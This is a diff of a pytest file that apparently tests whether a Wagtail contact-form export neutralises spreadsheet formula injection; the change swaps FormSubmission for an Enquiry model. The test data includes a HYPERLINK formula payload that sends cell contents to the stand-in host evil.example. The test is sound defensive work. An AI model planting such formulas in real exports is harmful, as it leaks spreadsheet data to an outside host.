@@ -11,11 +11,11 @@ import io
 
 import pytest
 from openpyxl import load_workbook
-from wagtail.contrib.forms.models import FormSubmission
 from wagtail.contrib.forms.utils import get_form_types
 
 from contact.exports import SafeSubmissionsListView
 from contact.factories import ContactFormFieldFactory
+from enquiries.models import Enquiry
 
 DANGEROUS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -48,7 +48,7 @@ def hostile_submission(contact_page):
     data = {name: next(payloads) for name in names if name != "submit_time"}
     data["days"] = ["=Monday", "Tuesday"]
     data["health_consent"] = True
-    return FormSubmission.objects.create(page=contact_page, form_data=data)
+    return Enquiry.objects.create(page=contact_page, form_data=data)
 
 
 def export(client, page, export_format):
